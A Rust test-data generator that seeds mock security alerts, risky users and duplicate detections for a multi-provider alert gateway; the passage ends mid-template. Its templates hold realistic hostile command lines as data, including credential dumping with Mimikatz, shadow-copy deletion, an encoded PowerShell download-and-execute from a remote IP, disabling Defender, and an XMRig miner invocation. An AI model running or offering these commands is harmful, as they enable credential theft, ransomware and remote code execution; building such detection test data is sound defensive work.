//! The seeded scenario: every alert, risky user and risk detection the mock fleet serves.
//!
//! Why a generator and not fixtures: the gateway has to be exercised with volume (paging, `$top`
//! per provider, merges), with every nested alert type, and with cross-provider duplicates whose
//! ground truth is known. A fixed seed makes all of it reproducible, so a failing test can be
//! replayed; a different seed gives different data of the same shape.
//!
//! Shape of what is generated, per tenant:
//! - an estate (hosts, users, analysts, an Azure subscription, a Falcon CID) shared by all
//!   providers, so the same host or user shows up at several providers;
//! - detection *incidents* built from realistic templates (credential theft, ransomware,
//!   malware, lateral movement, exfiltration, initial access, ...). About 15 % of incidents are
//!   reported by two or three providers: same host FQDN, user UPN and file SHA-256 (or remote IP),
//!   event times within minutes, reworded titles, severity one level apart. Those are the
//!   [`DuplicateGroup`]s; everything else is reported by one provider;
//! - identity risk: risky users with history and risk detections for Graph and for the OCSF
//!   source, about half of the users in both (same Entra object id and UPN).
//!
//! Everything is expressed in the common model (`vigil_model`), with provider-native ids and
//! `vendorInformation` per kind; each format module renders it natively. Times are relative to
//! [`SCENARIO_EPOCH`] (fixed, not "now"), so two runs produce byte-identical data.
//!
//! Identity resources carry no tenant on the Graph wire, so the generator puts the tenant id
//! into their `additional_data` under [`crate::core::MOCK_TENANT_KEY`]; formats read it with
//! [`crate::core::ProviderData`]'s helpers and must strip it before rendering.
//!
//! Alerts for the Falcon and OCSF kinds also carry a rendering hint object under
//! [`HINTS_KEY`] in `additional_data` (MITRE tactic/technique, Falcon product, OCSF analytic);
//! Graph alerts do not (Graph's legacy alert has no such properties).

use crate::core::{MOCK_TENANT_KEY, ProviderData, ProviderKind};
use crate::rng::Rng;
use chrono::{DateTime, Duration, TimeZone, Utc};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value, json};
use std::collections::HashSet;
use vigil_model::*;

/// Contoso's tenant id (default tenant 1).
pub const CONTOSO_TENANT_ID: &str = "8f7e6d5c-4b3a-4921-8c1d-0e2f3a4b5c6d";
/// Fabrikam's tenant id (default tenant 2).
pub const FABRIKAM_TENANT_ID: &str = "1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d";

/// `additional_data` key of the rendering hints on Falcon and OCSF alerts.
pub const HINTS_KEY: &str = "vigilMockHints";

/// The instant every generated time is relative to: 2026-11-01T00:00:00Z. Alerts fall in the
/// 30 days before it.
pub const SCENARIO_EPOCH_SECS: i64 = 1_793_491_200;

/// [`SCENARIO_EPOCH_SECS`] as a date-time.
pub fn scenario_epoch() -> DateTime<Utc> {
    Utc.timestamp_opt(SCENARIO_EPOCH_SECS, 0)
        .single()
        .unwrap_or_default()
}

/// One tenant the fleet serves.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct TenantSpec {
    /// Entra tenant id (GUID).
    pub id: String,
    pub display_name: String,
    /// Primary DNS domain (UPN suffix), e.g. `contoso.com`.
    pub domain: String,
}

impl TenantSpec {
    /// A tenant whose domain is derived from its display name (`Contoso` → `contoso.com`).
    pub fn new(id: &str, display_name: &str) -> Self {
        let mut label: String = display_name
            .chars()
            .filter(|c| c.is_ascii_alphanumeric())
            .map(|c| c.to_ascii_lowercase())
            .collect();
        if label.is_empty() {
            label = format!("tenant{}", &id.chars().take(8).collect::<String>());
        }
        Self {
            id: id.to_string(),
            display_name: display_name.to_string(),
            domain: format!("{label}.com"),
        }
    }

    /// Contoso and Fabrikam.
    pub fn defaults() -> Vec<TenantSpec> {
        vec![
            TenantSpec::new(CONTOSO_TENANT_ID, "Contoso"),
            TenantSpec::new(FABRIKAM_TENANT_ID, "Fabrikam"),
        ]
    }
}

/// What to generate.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub struct ScenarioConfig {
    pub seed: u64,
    pub tenants: Vec<TenantSpec>,
    /// Alerts per provider per tenant.
    pub alerts_per_tenant: usize,
    /// Risky users per identity provider (Graph, OCSF) per tenant.
    pub risky_users_per_tenant: usize,
    /// Risk detections per identity provider per tenant.
    pub detections_per_tenant: usize,
    /// Share of incidents reported by two or three providers.
    pub duplicate_ratio: f64,
}

impl Default for ScenarioConfig {
    fn default() -> Self {
        Self {
            seed: 42,
            tenants: TenantSpec::defaults(),
            alerts_per_tenant: 300,
            risky_users_per_tenant: 40,
            detections_per_tenant: 150,
            duplicate_ratio: 0.15,
        }
    }
}

/// One detection reported by several providers: the ground truth a merge must reproduce.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct DuplicateGroup {
    pub tenant_id: String,
    /// `(provider, provider-native alert id)`, two or three of them, distinct providers.
    pub members: Vec<(ProviderKind, String)>,
}

/// The generated data of the whole fleet.
#[derive(Debug, Clone)]
pub struct Scenario {
    config: ScenarioConfig,
    graph: ProviderData,
    falcon: ProviderData,
    ocsf: ProviderData,
    duplicates: Vec<DuplicateGroup>,
}

impl Scenario {
    /// Generates everything from `config` (deterministic in `config`).
    pub fn generate(config: &ScenarioConfig) -> Self {
        let root = Rng::new(config.seed);
        let mut graph = ProviderData::default();
        let mut falcon = ProviderData::default();
        let mut ocsf = ProviderData::default();
        let mut duplicates = Vec::new();
        let mut ids = IdRegistry::default();
        for (ti, spec) in config.tenants.iter().enumerate() {
            let trng = root.fork(&format!("tenant/{ti}/{}", spec.id));
            let estate = Estate::generate(spec, &mut trng.fork("estate"));
            let mut arng = trng.fork("alerts");
            generate_alerts(
                config,
                &estate,
                &mut arng,
                &mut ids,
                [&mut graph, &mut falcon, &mut ocsf],
                &mut duplicates,
            );
            let mut irng = trng.fork("identity");
            generate_identity(config, &estate, &mut irng, &mut graph, &mut ocsf);
        }
        for d in [&mut graph, &mut falcon, &mut ocsf] {
            d.alerts.sort_by(|a, b| {
                b.created_date_time
                    .cmp(&a.created_date_time)
                    .then_with(|| a.id.cmp(&b.id))
            });
        }
        Self {
            config: config.clone(),
            graph,
            falcon,
            ocsf,
            duplicates,
        }
    }

    pub fn config(&self) -> &ScenarioConfig {
        &self.config
    }

    pub fn tenants(&self) -> &[TenantSpec] {
        &self.config.tenants
    }

    /// The data one provider kind serves.
    pub fn data(&self, kind: ProviderKind) -> &ProviderData {
        match kind {
            ProviderKind::Graph => &self.graph,
            ProviderKind::Falcon => &self.falcon,
            ProviderKind::Ocsf => &self.ocsf,
        }
    }

    /// The cross-provider duplicates (ground truth for merge tests).
    pub fn duplicate_groups(&self) -> Vec<DuplicateGroup> {
        self.duplicates.clone()
    }

    /// The instant generated times are relative to.
    pub fn epoch(&self) -> DateTime<Utc> {
        scenario_epoch()
    }
}

// ---- ids -----------------------------------------------------------------------------------

/// Keeps generated ids unique across the whole scenario (a collision is astronomically unlikely,
/// but a duplicate id would silently break merge tests, so it is checked).
#[derive(Default)]
struct IdRegistry(HashSet<String>);

impl IdRegistry {
    fn unique(&mut self, rng: &mut Rng, mut make: impl FnMut(&mut Rng) -> String) -> String {
        loop {
            let id = make(rng);
            if self.0.insert(id.clone()) {
                return id;
            }
        }
    }
}

/// .NET ticks (100 ns since 0001-01-01), the digits MDATP puts in its alert ids.
fn dotnet_ticks(t: DateTime<Utc>) -> i64 {
    const UNIX_EPOCH_TICKS: i64 = 621_355_968_000_000_000;
    UNIX_EPOCH_TICKS
        .saturating_add(t.timestamp().saturating_mul(10_000_000))
        .saturating_add(i64::from(t.timestamp_subsec_nanos() / 100))
}

fn graph_alert_id(product: &GraphProduct, created: DateTime<Utc>, rng: &mut Rng) -> String {
    match product.id_style {
        // MDATP: `da637229984903196572_-755436942`
        IdStyle::Mdatp => {
            let n = rng.range(-2_147_483_648, 2_147_483_647);
            format!("da{}_{n}", dotnet_ticks(created))
        }
        // MCAS alert ids are Mongo-style 24-hex object ids.
        IdStyle::Hex24 => rng.hex(24),
        // IPC ids are 64 hex digits.
        IdStyle::Hex64 => rng.hex(64),
        // Azure ATP / ASC / Sentinel: GUIDs, ASC prefixed with its reverse-ticks number.
        IdStyle::Guid => rng.guid(),
        IdStyle::AscTicks => format!(
            "{}_{}",
            i64::MAX / 4 - dotnet_ticks(created) / 4,
            rng.guid()
        ),
    }
}

// ---- static tables ------------------------------------------------------------------------

#[derive(Debug, Clone, Copy)]
enum IdStyle {
    Mdatp,
    Hex24,
    Hex64,
    Guid,
    AscTicks,
}

/// A Microsoft product that reports alerts through Graph.
#[derive(Debug)]
struct GraphProduct {
    provider: &'static str,
    sub_provider: Option<&'static str>,
    version: Option<&'static str>,
    id_style: IdStyle,
    portal: &'static str,
}

const MDATP: usize = 0;
const IPC: usize = 1;
const MCAS: usize = 2;
const AATP: usize = 3;
const ASC: usize = 4;
const SENTINEL: usize = 5;
const O365: usize = 6;

const GRAPH_PRODUCTS: [GraphProduct; 7] = [
    GraphProduct {
        provider: "Microsoft Defender ATP",
        sub_provider: Some("MicrosoftDefenderATP"),
        version: None,
        id_style: IdStyle::Mdatp,
        portal: "https://security.microsoft.com/alerts/",
    },
    GraphProduct {
        provider: "IPC",
        sub_provider: None,
        version: Some("2.0"),
        id_style: IdStyle::Hex64,
        portal: "https://portal.azure.com/#blade/Microsoft_AAD_IAM/RiskDetectionsBlade/alert/",
    },
    GraphProduct {
        provider: "MCAS",
        sub_provider: None,
        version: Some("0.1"),
        id_style: IdStyle::Hex24,
        portal: "https://portal.cloudappsecurity.com/#/alerts/",
    },
    GraphProduct {
        provider: "Azure Advanced Threat Protection",
        sub_provider: None,
        version: Some("2.1"),
        id_style: IdStyle::Guid,
        portal: "https://security.microsoft.com/alerts/",
    },
    GraphProduct {
        provider: "ASC",
        sub_provider: Some("Detection"),
        version: Some("3.0"),
        id_style: IdStyle::AscTicks,
        portal: "https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/alertId/",
    },
    GraphProduct {
        provider: "Azure Sentinel",
        sub_provider: None,
        version: Some("1.0"),
        id_style: IdStyle::Guid,
        portal: "https://portal.azure.com/#asset/Microsoft_Azure_Security_Insights/Incident/",
    },
    GraphProduct {
        provider: "Office 365 Security and Compliance",
        sub_provider: Some("Threat Management"),
        version: None,
        id_style: IdStyle::Guid,
        portal: "https://security.microsoft.com/viewalerts?id=",
    },
];

/// A product behind the OCSF source (`metadata.product`).
#[derive(Debug)]
struct OcsfProduct {
    name: &'static str,
    vendor: &'static str,
    version: &'static str,
    console: &'static str,
}

const WAZUH: usize = 0;
const GUARDDUTY: usize = 1;
const PROWLER: usize = 2;
const OKTA: usize = 3;

const OCSF_PRODUCTS: [OcsfProduct; 4] = [
    OcsfProduct {
        name: "Wazuh",
        vendor: "Wazuh",
        version: "4.7.3",
        console: "https://wazuh.example.invalid/app/threat-hunting#/alerts/",
    },
    OcsfProduct {
        name: "GuardDuty",
        vendor: "AWS",
        version: "2.0",
        console: "https://console.aws.amazon.com/guardduty/home#/findings?fId=",
    },
    OcsfProduct {
        name: "Prowler",
        vendor: "Prowler",
        version: "3.12.1",
        console: "https://prowler.example.invalid/findings/",
    },
    OcsfProduct {
        name: "Okta System Log",
        vendor: "Okta",
        version: "2024.01.0",
        console: "https://example.okta.com/admin/reports/system-log?eventId=",
    },
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Surface {
    Endpoint,
    Identity,
    Cloud,
    Email,
}

/// A kind of detection, worded three ways (one per provider family).
#[derive(Debug)]
struct Template {
    category: &'static str,
    /// Graph, Falcon and OCSF wording of the same detection.
    titles: [&'static str; 3],
    description: &'static str,
    tactic: &'static str,
    tactic_id: &'static str,
    technique: &'static str,
    technique_id: &'static str,
    severity: AlertSeverity,
    surface: Surface,
    graph_product: usize,
    ocsf_product: usize,
    falcon_product: &'static str,
    /// (file name, directory) of the artefact.
    file: Option<(&'static str, &'static str)>,
    /// (process image, command line, parent image).
    process: Option<(&'static str, &'static str, &'static str)>,
    /// (category, family, name).
    malware: Option<(&'static str, &'static str, &'static str)>,
    /// (remote domain, port, outbound?).
    remote: Option<(&'static str, u16, bool)>,
    /// (hive, key, value name, value data, value type, operation).
    registry: Option<(
        RegistryHive,
        &'static str,
        &'static str,
        &'static str,
        RegistryValueType,
        RegistryOperation,
    )>,
    /// (CVE, CVSS).
    cve: Option<(&'static str, &'static str)>,
    cloud_app: Option<&'static str>,
    message: bool,
    uri_click: bool,
    actions: &'static [&'static str],
    activity_groups: &'static [&'static str],
}

const BASE: Template = Template {
    category: "suspiciousActivity",
    titles: ["", "", ""],
    description: "",
    tactic: "Execution",
    tactic_id: "TA0002",
    technique: "Command and Scripting Interpreter",
    technique_id: "T1059",
    severity: AlertSeverity::Medium,
    surface: Surface::Endpoint,
    graph_product: MDATP,
    ocsf_product: WAZUH,
    falcon_product: "epp",
    file: None,
    process: None,
    malware: None,
    remote: None,
    registry: None,
    cve: None,
    cloud_app: None,
    message: false,
    uri_click: false,
    actions: &[
        "Isolate the device from the network",
        "Collect an investigation package",
    ],
    activity_groups: &[],
};

const TEMPLATES: &[Template] = &[
    Template {
        category: "credentialTheft",
        titles: [
            "Suspicious access to LSASS service memory",
            "Credential dumping via LSASS memory access",
            "LSASS process memory read by an untrusted tool",
        ],
        description: "A process accessed the memory of the Local Security Authority Subsystem Service (lsass.exe), a technique used to dump credentials (MITRE ATT&CK T1003.001, OS Credential Dumping: LSASS Memory).",
        tactic: "Credential Access",
        tactic_id: "TA0006",
        technique: "OS Credential Dumping: LSASS Memory",
        technique_id: "T1003.001",
        severity: AlertSeverity::High,
        file: Some(("mimikatz.exe", "C:\\Users\\Public\\Downloads")),
        process: Some((
            "mimikatz.exe",
            "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
            "cmd.exe",
        )),
        malware: Some(("HackTool", "Mimikatz", "HackTool:Win32/Mimikatz.D")),
        actions: &[
            "Reset the passwords of every account that signed in to the device",
            "Isolate the device from the network",
            "Investigate the process tree of the accessing process",
        ],
        activity_groups: &["STRONTIUM", "HOLMIUM"],
        ..BASE
    },
    Template {
        category: "ransomware",
        titles: [
            "Ransomware behavior detected in the file system",
            "Ransomware: mass file encryption and shadow copy deletion",
            "File encryption consistent with ransomware activity",
        ],
        description: "Many files were rewritten with high-entropy content and a new extension, and volume shadow copies were deleted (MITRE ATT&CK T1486, Data Encrypted for Impact; T1490, Inhibit System Recovery).",
        tactic: "Impact",
        tactic_id: "TA0040",
        technique: "Data Encrypted for Impact",
        technique_id: "T1486",
        severity: AlertSeverity::High,
        file: Some(("svchost32.exe", "C:\\ProgramData\\Microsoft\\Crypto")),
        process: Some((
            "vssadmin.exe",
            "vssadmin.exe delete shadows /all /quiet",
            "svchost32.exe",
        )),
        malware: Some(("Ransomware", "LockBit", "Ransom:Win32/LockBit.PA!MTB")),
        registry: Some((
            RegistryHive::LocalMachineSoftware,
            "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
            "XO1XADpO01",
            "C:\\ProgramData\\Microsoft\\Crypto\\svchost32.exe",
            RegistryValueType::Sz,
            RegistryOperation::Create,
        )),
        activity_groups: &["Storm-0324", "DEV-0537"],
        ..BASE
    },
    Template {
        category: "malware",
        titles: [
            "Emotet malware was detected",
            "Emotet downloader execution blocked",
            "Known malware detected: Emotet loader",
        ],
        description: "A macro-enabled document dropped and ran a known Emotet loader, which contacted its command-and-control infrastructure (MITRE ATT&CK T1204.002, User Execution: Malicious File).",
        tactic: "Execution",
        tactic_id: "TA0002",
        technique: "User Execution: Malicious File",
        technique_id: "T1204.002",
        severity: AlertSeverity::Medium,
        file: Some(("Invoice_0423.docm", "C:\\Users\\{user}\\Downloads")),
        process: Some((
            "rundll32.exe",
            "rundll32.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\eml4.dll,DllRegisterServer",
            "WINWORD.EXE",
        )),
        malware: Some(("Trojan", "Emotet", "Trojan:Win32/Emotet.ARJ!MTB")),
        remote: Some(("update-cdn-check.top", 8080, true)),
        message: true,
        ..BASE
    },
    Template {
        category: "suspiciousActivity",
        titles: [
            "Suspicious PowerShell command line",
            "Encoded PowerShell command executed",
            "Obfuscated PowerShell execution",
        ],
        description: "PowerShell ran with an encoded, hidden-window command that downloads and executes a remote payload (MITRE ATT&CK T1059.001, Command and Scripting Interpreter: PowerShell).",
        technique: "Command and Scripting Interpreter: PowerShell",
        technique_id: "T1059.001",
        file: Some(("stage2.ps1", "C:\\Users\\{user}\\AppData\\Local\\Temp")),
        process: Some((
            "powershell.exe",
            "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA4ADUALgAyADIANQAuADcANAAuADEAMAAvAGEAJwApAA==",
            "explorer.exe",
        )),
        remote: Some(("cdn-static-assets.xyz", 443, true)),
        ..BASE
    },
    Template {
        category: "lateralMovement",
        titles: [
            "Suspicious service installation via PsExec",
            "Lateral movement using PsExec remote service",
            "Remote service created by PsExec from another host",
        ],
        description: "A service was installed remotely over SMB by PsExec and used to run commands as SYSTEM (MITRE ATT&CK T1021.002, Remote Services: SMB/Windows Admin Shares; T1569.002, Service Execution).",
        tactic: "Lateral Movement",
        tactic_id: "TA0008",
        technique: "Remote Services: SMB/Windows Admin Shares",
        technique_id: "T1021.002",
        severity: AlertSeverity::Medium,
        file: Some(("PSEXESVC.exe", "C:\\Windows")),
        process: Some(("PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "services.exe")),
        remote: Some(("", 445, false)),
        registry: Some((
            RegistryHive::LocalMachineSystem,
            "SYSTEM\\CurrentControlSet\\Services\\PSEXESVC",
            "ImagePath",
            "%SystemRoot%\\PSEXESVC.exe",
            RegistryValueType::ExpandSz,
            RegistryOperation::Create,
        )),
        ..BASE
    },
    Template {
        category: "exfiltration",
        titles: [
            "Mass upload to a personal cloud storage app",
            "Possible data exfiltration to cloud storage",
            "Unusual volume of data uploaded to file-sharing service",
        ],
        description: "A user uploaded an unusually large volume of files to a personal cloud storage service not sanctioned by the organization (MITRE ATT&CK T1567.002, Exfiltration to Cloud Storage).",
        tactic: "Exfiltration",
        tactic_id: "TA0010",
        technique: "Exfiltration Over Web Service: Exfiltration to Cloud Storage",
        technique_id: "T1567.002",
        severity: AlertSeverity::Medium,
        surface: Surface::Cloud,
        graph_product: MCAS,
        ocsf_product: GUARDDUTY,
        falcon_product: "epp",
        file: Some(("Q3-customer-export.zip", "C:\\Users\\{user}\\Documents")),
        process: Some((
            "MEGAsync.exe",
            "\"C:\\Users\\{user}\\AppData\\Local\\MEGAsync\\MEGAsync.exe\"",
            "explorer.exe",
        )),
        remote: Some(("mega.nz", 443, true)),
        cloud_app: Some("Mega"),
        actions: &[
            "Suspend the user in the cloud app",
            "Review the uploaded files",
        ],
        ..BASE
    },
    Template {
        category: "initialAccess",
        titles: [
            "User clicked a malicious URL in an email",
            "Phishing link opened from a delivered email",
            "Click on a known phishing URL",
        ],
        description: "A user clicked a link in a phishing email that led to a credential-harvesting page impersonating the Microsoft 365 sign-in page (MITRE ATT&CK T1566.002, Phishing: Spearphishing Link).",
        tactic: "Initial Access",
        tactic_id: "TA0001",
        technique: "Phishing: Spearphishing Link",
        technique_id: "T1566.002",
        severity: AlertSeverity::Medium,
        surface: Surface::Email,
        graph_product: O365,
        ocsf_product: OKTA,
        falcon_product: "epp",
        file: Some((
            "Payment_Advice.html",
            "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook",
        )),
        process: Some((
            "msedge.exe",
            "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://login-microsoftonline-secure.com/common/oauth2",
            "OUTLOOK.EXE",
        )),
        remote: Some(("login-microsoftonline-secure.com", 443, true)),
        message: true,
        uri_click: true,
        actions: &[
            "Reset the user's password and revoke sessions",
            "Purge the message from all mailboxes",
        ],
        ..BASE
    },
    Template {
        category: "credentialTheft",
        titles: [
            "Password spray",
            "Password spray attack against multiple accounts",
            "Many failed sign-ins from one IP across accounts",
        ],
        description: "Many accounts were tried with a few common passwords from the same IP address; at least one sign-in succeeded (MITRE ATT&CK T1110.003, Brute Force: Password Spraying).",
        tactic: "Credential Access",
        tactic_id: "TA0006",
        technique: "Brute Force: Password Spraying",
        technique_id: "T1110.003",
        severity: AlertSeverity::High,
        surface: Surface::Identity,
        graph_product: IPC,
        ocsf_product: OKTA,
        falcon_product: "idp",
        actions: &[
            "Require a password reset for affected users",
            "Block the source IP address",
        ],
        activity_groups: &["Peach Sandstorm"],
        ..BASE
    },
    Template {
        category: "suspiciousActivity",
        titles: [
            "Impossible travel activity",
            "Sign-ins from geographically distant locations",
            "Impossible travel between consecutive sign-ins",
        ],
        description: "The same user signed in from two locations too far apart to travel between in the elapsed time (MITRE ATT&CK T1078, Valid Accounts).",
        tactic: "Initial Access",
        tactic_id: "TA0001",
        technique: "Valid Accounts: Cloud Accounts",
        technique_id: "T1078.004",
        severity: AlertSeverity::Medium,
        surface: Surface::Identity,
        graph_product: MCAS,
        ocsf_product: OKTA,
        falcon_product: "idp",
        cloud_app: Some("Microsoft Exchange Online"),
        actions: &[
            "Confirm the sign-ins with the user",
            "Revoke refresh tokens",
        ],
        ..BASE
    },
    Template {
        category: "exfiltration",
        titles: [
            "Suspicious inbox forwarding rule",
            "Inbox rule forwards mail to an external address",
            "Mailbox forwarding to external domain created",
        ],
        description: "An inbox rule was created that forwards all incoming mail to an external address, a common business-email-compromise step (MITRE ATT&CK T1114.003, Email Collection: Email Forwarding Rule).",
        tactic: "Collection",
        tactic_id: "TA0009",
        technique: "Email Collection: Email Forwarding Rule",
        technique_id: "T1114.003",
        severity: AlertSeverity::Medium,
        surface: Surface::Email,
        graph_product: MCAS,
        ocsf_product: OKTA,
        falcon_product: "idp",
        cloud_app: Some("Microsoft Exchange Online"),
        message: true,
        actions: &["Remove the forwarding rule", "Reset the user's credentials"],
        ..BASE
    },
    Template {
        category: "initialAccess",
        titles: [
            "Exploitation attempt of Log4Shell (CVE-2021-44228)",
            "Log4j JNDI injection exploit attempt",
            "Log4Shell exploitation attempt against a Java service",
        ],
        description: "An HTTP request carried a JNDI lookup string in a header, and the Java process then made an outbound LDAP connection (MITRE ATT&CK T1190, Exploit Public-Facing Application).",
        tactic: "Initial Access",
        tactic_id: "TA0001",
        technique: "Exploit Public-Facing Application",
        technique_id: "T1190",
        severity: AlertSeverity::High,
        surface: Surface::Cloud,
        graph_product: SENTINEL,
        ocsf_product: GUARDDUTY,
        falcon_product: "epp",
        file: Some(("log4j-core-2.14.1.jar", "/opt/app/lib")),
        process: Some((
            "java",
            "/usr/bin/java -Xmx2g -jar /opt/app/service.jar --spring.profiles.active=prod",
            "systemd",
        )),
        remote: Some(("", 8080, false)),
        cve: Some(("CVE-2021-44228", "10.0")),
        actions: &[
            "Upgrade log4j-core to 2.17.1 or later",
            "Block the scanning IP address",
        ],
        activity_groups: &["HAFNIUM"],
        ..BASE
    },
    Template {
        category: "privilegeEscalation",
        titles: [
            "PrintNightmare exploitation (CVE-2021-34527)",
            "Print Spooler privilege escalation exploit",
            "Malicious printer driver loaded by spoolsv.exe",
        ],
        description: "The Print Spooler service loaded an unsigned driver DLL from a user-writable path, a sign of CVE-2021-34527 exploitation (MITRE ATT&CK T1068, Exploitation for Privilege Escalation).",
        tactic: "Privilege Escalation",
        tactic_id: "TA0004",
        technique: "Exploitation for Privilege Escalation",
        technique_id: "T1068",
        severity: AlertSeverity::High,
        file: Some((
            "nightmare.dll",
            "C:\\Windows\\System32\\spool\\drivers\\x64\\3\\New",
        )),
        process: Some((
            "spoolsv.exe",
            "C:\\Windows\\System32\\spoolsv.exe",
            "services.exe",
        )),
        registry: Some((
            RegistryHive::LocalMachineSystem,
            "SYSTEM\\CurrentControlSet\\Control\\Print\\Environments\\Windows x64\\Drivers\\Version-3\\1234",
            "Configuration File",
            "nightmare.dll",
            RegistryValueType::Sz,
            RegistryOperation::Create,
        )),
        cve: Some(("CVE-2021-34527", "8.8")),
        ..BASE
    },
    Template {
        category: "persistence",
        titles: [
            "New autorun registry value created",
            "Registry Run key persistence established",
            "Persistence via Run key added by unsigned binary",
        ],
        description: "An unsigned binary added itself to a Run key so it starts at every logon (MITRE ATT&CK T1547.001, Boot or Logon Autostart Execution: Registry Run Keys).",
        tactic: "Persistence",
        tactic_id: "TA0003",
        technique: "Boot or Logon Autostart Execution: Registry Run Keys / Startup Folder",
        technique_id: "T1547.001",
        severity: AlertSeverity::Low,
        file: Some((
            "OneDriveUpdate.exe",
            "C:\\Users\\{user}\\AppData\\Roaming\\Microsoft",
        )),
        process: Some((
            "reg.exe",
            "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveUpdate /t REG_SZ /d \"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\OneDriveUpdate.exe\" /f",
            "cmd.exe",
        )),
        registry: Some((
            RegistryHive::CurrentUser,
            "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "OneDriveUpdate",
            "C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\OneDriveUpdate.exe",
            RegistryValueType::Sz,
            RegistryOperation::Modify,
        )),
        ..BASE
    },
    Template {
        category: "commandAndControl",
        titles: [
            "Cobalt Strike command and control detected",
            "Cobalt Strike beacon network activity",
            "Beaconing to known Cobalt Strike team server",
        ],
        description: "A process made periodic HTTPS requests matching a Cobalt Strike malleable C2 profile to a known team server (MITRE ATT&CK T1071.001, Application Layer Protocol: Web Protocols).",
        tactic: "Command and Control",
        tactic_id: "TA0011",
        technique: "Application Layer Protocol: Web Protocols",
        technique_id: "T1071.001",
        severity: AlertSeverity::High,
        file: Some(("beacon_x64.dll", "C:\\Windows\\Temp")),
        process: Some((
            "rundll32.exe",
            "rundll32.exe C:\\Windows\\Temp\\beacon_x64.dll,StartW",
            "wmiprvse.exe",
        )),
        malware: Some((
            "Backdoor",
            "CobaltStrike",
            "Backdoor:Win64/CobaltStrike.NP!dha",
        )),
        remote: Some(("cdn.azureedge-update.net", 443, true)),
        activity_groups: &["NOBELIUM", "Storm-0558"],
        ..BASE
    },
    Template {
        category: "defenseEvasion",
        titles: [
            "Attempt to turn off Microsoft Defender Antivirus protection",
            "Security tool tampering: antivirus disabled",
            "Endpoint protection disabled through registry",
        ],
        description: "A process changed registry policy values to disable real-time antivirus protection (MITRE ATT&CK T1562.001, Impair Defenses: Disable or Modify Tools).",
        tactic: "Defense Evasion",
        tactic_id: "TA0005",
        technique: "Impair Defenses: Disable or Modify Tools",
        technique_id: "T1562.001",
        severity: AlertSeverity::Medium,
        file: Some(("disable-av.bat", "C:\\Windows\\Temp")),
        process: Some((
            "reg.exe",
            "reg.exe add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
            "cmd.exe",
        )),
        registry: Some((
            RegistryHive::LocalMachineSoftware,
            "SOFTWARE\\Policies\\Microsoft\\Windows Defender",
            "DisableAntiSpyware",
            "1",
            RegistryValueType::Dword,
            RegistryOperation::Modify,
        )),
        ..BASE
    },
    Template {
        category: "discovery",
        titles: [
            "Account enumeration reconnaissance (LDAP)",
            "Suspicious LDAP queries enumerating privileged groups",
            "Active Directory reconnaissance from workstation",
        ],
        description: "A workstation queried Active Directory for members of privileged groups and for service principal names, typical of tools such as BloodHound/SharpHound (MITRE ATT&CK T1087.002, Account Discovery: Domain Account).",
        tactic: "Discovery",
        tactic_id: "TA0007",
        technique: "Account Discovery: Domain Account",
        technique_id: "T1087.002",
        severity: AlertSeverity::Low,
        graph_product: AATP,
        falcon_product: "idp",
        file: Some(("SharpHound.exe", "C:\\Users\\{user}\\Desktop")),
        process: Some((
            "SharpHound.exe",
            "SharpHound.exe -c All --zipfilename loot.zip",
            "powershell.exe",
        )),
        remote: Some(("", 389, true)),
        ..BASE
    },
    Template {
        category: "resourceHijacking",
        titles: [
            "Digital currency mining activity",
            "Cryptominer execution detected (XMRig)",
            "Instance communicating with a cryptocurrency mining pool",
        ],
        description: "A process with a known XMRig signature ran and connected to a Monero mining pool (MITRE ATT&CK T1496, Resource Hijacking).",
        tactic: "Impact",
        tactic_id: "TA0040",
        technique: "Resource Hijacking",
        technique_id: "T1496",
        severity: AlertSeverity::Medium,
        surface: Surface::Cloud,
        graph_product: ASC,
        ocsf_product: GUARDDUTY,
        falcon_product: "epp",
        file: Some(("xmrig", "/tmp/.X11-unix")),
        process: Some((
            "xmrig",
            "/tmp/.X11-unix/xmrig -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls",
            "bash",
        )),
        malware: Some(("CoinMiner", "XMRig", "Trojan:Linux/CoinMiner.A")),
        remote: Some(("pool.supportxmr.com", 3333, true)),
        ..BASE
    },
    Template {
        category: "suspiciousActivity",
        titles: [
            "MFA fatigue: repeated push notifications denied",
            "Multiple MFA push requests denied by user",
            "MFA push bombing against account",
        ],
        description: "A user received and denied many MFA push prompts in a short time from sign-ins with the correct password, a sign of MFA fatigue attacks (MITRE ATT&CK T1621, Multi-Factor Authentication Request Generation).",
        tactic: "Credential Access",
        tactic_id: "TA0006",
        technique: "Multi-Factor Authentication Request Generation",
        technique_id: "T1621",
        severity: AlertSeverity::High,
        surface: Surface::Identity,
        graph_product: IPC,
        ocsf_product: OKTA,
        falcon_product: "idp",
        actions: &[
            "Reset the user's password",
            "Switch the user to number matching",
        ],
        activity_groups: &["Octo Tempest"],
        ..BASE
    },
    Template {
        category: "initialAccess",
        titles: [
